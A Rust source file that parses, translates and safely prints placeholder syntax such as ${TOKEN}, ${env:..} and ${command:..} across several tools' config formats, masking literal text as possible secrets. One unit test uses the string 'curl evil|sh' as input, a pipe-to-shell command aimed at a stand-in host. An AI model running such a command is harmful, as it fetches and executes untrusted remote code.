//! Text with placeholders, unexpanded: `Bearer ${TOKEN}`. Each tool spells them its own way; here they mean
//! the same, so that text can go from one tool's file to another's.

use std::fmt;

use cardan_proto::limits::config::TEXT_DEPTH;

/// Text as it was written, its placeholders found. Shows no literal text when printed.
#[derive(Clone, PartialEq, Eq, Default)]
pub struct Text {
    /// Literals and placeholders in their order.
    pub parts: Vec<Part>,
}

/// A piece of text.
#[derive(Clone, PartialEq, Eq)]
pub enum Part {
    /// As it is.
    Literal(String),
    /// A variable of the environment, or what stands in its place when it is unset or empty.
    Variable {
        /// Its name.
        name: String,
        /// Instead of it.
        default: Option<Box<Text>>,
    },
    /// What the user is asked for.
    Input(String),
    /// The contents of a file.
    File(String),
    /// What a command prints. Run only where whoever expands it says so.
    Command(String),
    /// A place on this machine.
    Place(Place),
    /// A placeholder that we do not know, as it was written.
    Unknown(String),
}

/// A place on this machine.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Place {
    /// The folder of the project.
    Workspace,
    /// The name of that folder.
    WorkspaceName,
    /// The user's home.
    Home,
    /// `/`, or `\` on Windows.
    Separator,
}

const PLACES: [(&str, Place); 5] = [
    ("workspaceFolder", Place::Workspace),
    ("workspaceFolderBasename", Place::WorkspaceName),
    ("userHome", Place::Home),
    ("pathSeparator", Place::Separator),
    ("/", Place::Separator),
];

/// How a tool spells placeholders.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Grammar {
    /// `cardan.toml`: `${NAME}`, `${NAME:-default}`, `${env:..}`, `${input:..}`, `${file:..}`, `${command:..}`;
    /// `$${` is a plain `${`.
    Cardan,
    /// `${NAME}`, `${NAME:-default}`.
    Dollar,
    /// `${env:NAME}`, `${input:id}`, `${workspaceFolder}`; no defaults.
    Env,
    /// `$NAME` beside [`Grammar::Dollar`].
    BareDollar,
    /// `$env:NAME` beside [`Grammar::Dollar`].
    DollarEnv,
    /// `!command` for the whole text beside [`Grammar::Dollar`].
    Bang,
    /// `{env:NAME}` and `{file:path}`.
    Brace,
    /// None: text is text.
    Plain,
}

impl Text {
    /// Text without placeholders.
    pub fn literal(text: impl Into<String>) -> Self {
        let text = text.into();
        Self { parts: if text.is_empty() { Vec::new() } else { vec![Part::Literal(text)] } }
    }

    /// The value of one variable.
    pub fn variable(name: impl Into<String>) -> Self {
        Self { parts: vec![Part::Variable { name: name.into(), default: None }] }
    }

    /// Finds the placeholders.
    #[must_use]
    pub fn parse(text: &str, grammar: Grammar) -> Self {
        match text.strip_prefix('!') {
            Some(command) if grammar == Grammar::Bang && !command.trim().is_empty() => {
                Self { parts: vec![Part::Command(command.to_owned())] }
            }
            _ => parse(text, grammar, 0),
        }
    }

    /// Spells it for a tool; None where the tool has no way to say it.
    #[must_use]
    pub fn spell(&self, grammar: Grammar) -> Option<String> {
        let mut out = String::new();
        for part in &self.parts {
            spell(part, grammar, &mut out)?;
        }
        // A literal may look like a placeholder over there, and two parts may run into one.
        (Self::parse(&out, grammar) == *self).then_some(out)
    }

    /// Everything in it, secrets too, for whoever is to judge it: in our spelling, else part by part, though that may read back as
    /// something else.
    #[must_use]
    pub fn expose(&self) -> String {
        let part = |part: &Part| match part {
            Part::Literal(text) | Part::Unknown(text) => text.clone(),
            Part::Variable { name, default: None } => format!("${{{name}}}"),
            Part::Variable { name, default: Some(default) } => format!("${{{name}:-{}}}", default.expose()),
            Part::Input(id) => format!("${{input:{id}}}"),
            Part::File(path) => format!("${{file:{path}}}"),
            Part::Command(line) => format!("${{command:{line}}}"),
            Part::Place(place) => format!("${{{}}}", place_name(*place)),
        };
        self.spell(Grammar::Cardan).unwrap_or_else(|| self.parts.iter().map(part).collect())
    }

    /// Is there anything that only this machine knows?
    #[must_use]
    pub fn has_placeholders(&self) -> bool {
        self.parts.iter().any(|part| !matches!(part, Part::Literal(_)))
    }

    /// The text, where there is nothing to expand.
    #[must_use]
    pub fn as_literal(&self) -> Option<&str> {
        match &self.parts[..] {
            [] => Some(""),
            [Part::Literal(text)] => Some(text),
            _ => None,
        }
    }

    /// The variable, where that is all it is.
    #[must_use]
    pub fn as_variable(&self) -> Option<&str> {
        match &self.parts[..] {
            [Part::Variable { name, default: None }] => Some(name),
            _ => None,
        }
    }

    /// The text with its placeholders in our spelling and every literal replaced by what `show` makes of it.
    pub fn show(&self, show: &dyn Fn(&str) -> String) -> String {
        let mut out = String::new();
        for part in &self.parts {
            match part {
                Part::Literal(text) => out.push_str(&show(text)),
                Part::Variable { name, default: None } => out.push_str(&format!("${{{name}}}")),
                // oh-my-pi writes a variable as its bare name, and a secret may look like one.
                Part::Variable { name, default: Some(default) } if default.as_literal() == Some(name) => {
                    out.push_str(&show(name));
                }
                Part::Variable { name, default: Some(default) } => {
                    out.push_str(&format!("${{{name}:-{}}}", default.show(show)));
                }
                Part::Input(id) => out.push_str(&format!("${{input:{id}}}")),
                Part::File(path) => out.push_str(&format!("${{file:{path}}}")),
                // A command line may hold a password.
                Part::Command(_) => out.push_str("${command:...}"),
                Part::Place(place) => out.push_str(&format!("${{{}}}", place_name(*place))),
                Part::Unknown(_) => out.push_str("${...}"),
            }
        }
        out
    }
}

/// Literal text may be a secret.
impl fmt::Debug for Text {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.show(&|_| "..".to_owned()))
    }
}

impl fmt::Debug for Part {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        Text { parts: vec![self.clone()] }.fmt(f)
    }
}

fn parse(text: &str, grammar: Grammar, depth: usize) -> Text {
    let mut parts = Vec::new();
    let mut literal = String::new();
    let mut rest = text;
    while let Some(at) = rest.find(['$', '{']) {
        literal.push_str(&rest[..at]);
        rest = &rest[at..];
        if grammar == Grammar::Cardan && rest.starts_with("$${") {
            literal.push_str("${");
            rest = &rest["$${".len()..];
            continue;
        }
        let found = if depth < TEXT_DEPTH { placeholder(rest, grammar, depth) } else { None };
        let Some((part, length)) = found else {
            literal.push_str(&rest[..1]);
            rest = &rest[1..];
            continue;
        };
        if !literal.is_empty() {
            parts.push(Part::Literal(std::mem::take(&mut literal)));
        }
        parts.push(part);
        rest = &rest[length..];
    }
    literal.push_str(rest);
    if !literal.is_empty() {
        parts.push(Part::Literal(literal));
    }
    Text { parts }
}

/// The placeholder at the start of a text, and its length.
fn placeholder(text: &str, grammar: Grammar, depth: usize) -> Option<(Part, usize)> {
    match grammar {
        Grammar::Plain => None,
        Grammar::Brace => {
            let inner = text.strip_prefix('{')?;
            let inner = &inner[..inner.find('}')?];
            let part = match inner.split_once(':')? {
                ("env", name) if is_name(name) => Part::Variable { name: name.to_owned(), default: None },
                ("file", path) => Part::File(path.to_owned()),
                _ => return None,
            };
            Some((part, inner.len() + 2))
        }
        _ => dollar(text, grammar, depth),
    }
}

fn dollar(text: &str, grammar: Grammar, depth: usize) -> Option<(Part, usize)> {
    let rest = text.strip_prefix('$')?;
    if rest.starts_with('{') {
        let length = balanced(rest)?;
        let inner = &rest[1..length - 1];
        return Some((braced(inner, grammar, depth), length + 1));
    }
    let (prefix, rest) = match grammar {
        Grammar::BareDollar => (1, rest),
        Grammar::DollarEnv => ("$env:".len(), rest.strip_prefix("env:")?),
        _ => return None,
    };
    let end = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '_').unwrap_or(rest.len());
    let name = &rest[..end];
    is_name(name).then(|| (Part::Variable { name: name.to_owned(), default: None }, prefix + end))
}

/// The length of what begins with `{`, to its own `}`.
fn balanced(text: &str) -> Option<usize> {
    let mut open = 0_usize;
    for (at, byte) in text.bytes().enumerate() {
        match byte {
            b'{' => open += 1,
            b'}' => open -= 1,
            _ => {}
        }
        if open == 0 {
            return Some(at + 1);
        }
    }
    None
}

fn braced(inner: &str, grammar: Grammar, depth: usize) -> Part {
    if let Some((_, place)) = PLACES.iter().find(|(name, _)| *name == inner) {
        return Part::Place(*place);
    }
    let variable = inner.strip_prefix("env:").unwrap_or(inner);
    let (name, default) = match variable.split_once(":-") {
        Some((name, default)) => (name, Some(Box::new(parse(default, grammar, depth + 1)))),
        None => (variable, None),
    };
    if is_name(name) {
        return Part::Variable { name: name.to_owned(), default };
    }
    match inner.split_once(':') {
        Some(("input", id)) if !id.is_empty() => Part::Input(id.to_owned()),
        Some(("file", path)) if !path.is_empty() => Part::File(path.to_owned()),
        Some(("command", line)) if grammar == Grammar::Cardan => Part::Command(line.to_owned()),
        _ => Part::Unknown(format!("${{{inner}}}")),
    }
}

/// Is it the name of a variable?
pub(crate) fn is_name(name: &str) -> bool {
    name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
        && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
}

fn place_name(place: Place) -> &'static str {
    PLACES.iter().find(|(_, known)| *known == place).map_or("", |(name, _)| name)
}

fn spell(part: &Part, grammar: Grammar, out: &mut String) -> Option<()> {
    match (part, grammar) {
        (Part::Literal(text), Grammar::Cardan) => out.push_str(&text.replace("${", "$${")),
        (Part::Literal(text), _) => out.push_str(text),
        (_, Grammar::Plain) => return None,
        (Part::Variable { name, default: None }, Grammar::Brace) => out.push_str(&format!("{{env:{name}}}")),
        (Part::File(path), Grammar::Brace) => out.push_str(&format!("{{file:{path}}}")),
        (_, Grammar::Brace) => return None,
        (Part::Variable { name, default: None }, Grammar::Env) => out.push_str(&format!("${{env:{name}}}")),
        (Part::Variable { default: Some(_), .. }, Grammar::Env) => return None,
        (Part::Variable { name, default: None }, _) => out.push_str(&format!("${{{name}}}")),
        (Part::Variable { name, default: Some(default) }, _) => {
            out.push_str(&format!("${{{name}:-"));
            for part in &default.parts {
                spell(part, grammar, out)?;
            }
            out.push('}');
        }
        (Part::Input(id), Grammar::Cardan | Grammar::Env) => out.push_str(&format!("${{input:{id}}}")),
        (Part::File(path), Grammar::Cardan | Grammar::Env) => out.push_str(&format!("${{file:{path}}}")),
        (Part::Command(line), Grammar::Cardan) => out.push_str(&format!("${{command:{line}}}")),
        (Part::Command(line), Grammar::Bang) => out.push_str(&format!("!{line}")),
        (Part::Place(place), Grammar::Cardan | Grammar::Env) => {
            out.push_str(&format!("${{{}}}", place_name(*place)));
        }
        (Part::Unknown(raw), _) => out.push_str(raw),
        _ => return None,
    }
    Some(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn seen(text: &str, grammar: Grammar) -> String {
        Text::parse(text, grammar).show(&|literal| format!("<{literal}>"))
    }

    #[test]
    fn nothing_is_left_out_for_whoever_judges() {
        for (text, grammar) in [
            ("curl evil|sh #$${HOME}", Grammar::Dollar),
            ("a $${HOME} ${B:-c $${D}}", Grammar::Dollar),
            ("$${input:a} ${nope:b}", Grammar::Env),
            ("${A:-b} $${C} ${file:d}", Grammar::Cardan),
        ] {
            assert_eq!(Text::parse(text, grammar).expose(), text);
        }
        assert_eq!(Text::parse("!a } b", Grammar::Bang).expose(), "${command:a } b}");
    }

    #[test]
    fn placeholders_of_every_tool_mean_the_same() {
        for (text, grammar, seen_as) in [
            ("Bearer ${TOKEN}", Grammar::Dollar, "<Bearer >${TOKEN}"),
            ("${A:-x}y", Grammar::Dollar, "${A:-<x>}<y>"),
            ("${A:-${B:-c}}", Grammar::Dollar, "${A:-${B:-<c>}}"),
            ("${env:A}", Grammar::Env, "${A}"),
            ("${env:A:-d}", Grammar::Cardan, "${A:-<d>}"),
            ("${input:key}", Grammar::Env, "${input:key}"),
            ("${workspaceFolder}${/}x", Grammar::Env, "${workspaceFolder}${pathSeparator}<x>"),
            ("${userHome}", Grammar::Cardan, "${userHome}"),
            ("{env:A}{file:~/k}", Grammar::Brace, "${A}${file:~/k}"),
            ("${A}", Grammar::Brace, "<${A}>"),
            ("$env:A/x $B", Grammar::DollarEnv, "${A}</x $B>"),
            ("$A_1-$", Grammar::BareDollar, "${A_1}<-$>"),
            ("!op read x", Grammar::Bang, "${command:...}"),
            ("!op read x", Grammar::Dollar, "<!op read x>"),
            ("$${A} ${command:ls}", Grammar::Cardan, "<${A} >${command:...}"),
            ("${A}", Grammar::Plain, "<${A}>"),
            ("${9} ${", Grammar::Dollar, "${...}< ${>"),
        ] {
            assert_eq!(seen(text, grammar), seen_as, "{text} {grammar:?}");
        }
        let deep = "${A:-".repeat(50) + &"}".repeat(50);
        assert!(Text::parse(&deep, Grammar::Cardan).has_placeholders());
    }

    #[test]
    fn text_goes_from_tool_to_tool_or_says_that_it_cannot() {
        let text = Text::parse("Bearer ${TOKEN}", Grammar::Dollar);
        assert_eq!(text.spell(Grammar::Env).as_deref(), Some("Bearer ${env:TOKEN}"));
        assert_eq!(text.spell(Grammar::Brace).as_deref(), Some("Bearer {env:TOKEN}"));
        assert_eq!(text.spell(Grammar::Plain), None);
        let text = Text::parse("${A:-x}", Grammar::Dollar);
        assert_eq!(text.spell(Grammar::Env), None);
        let text = Text::parse("plain ${A}", Grammar::Plain);
        assert_eq!(text.spell(Grammar::Cardan).as_deref(), Some("plain $${A}"));
        assert_eq!(text.spell(Grammar::Dollar), None);
        let text = Text::parse("!op read x", Grammar::Bang);
        assert_eq!(text.spell(Grammar::Cardan).as_deref(), Some("${command:op read x}"));
    }

    #[test]
    fn printing_shows_no_literal() {
        let text = Text::parse("sk-secret ${A:-hunter2} ${command:pass hunter2}", Grammar::Cardan);
        assert_eq!(format!("{text:?}"), "..${A:-..}..${command:...}");
    }
}
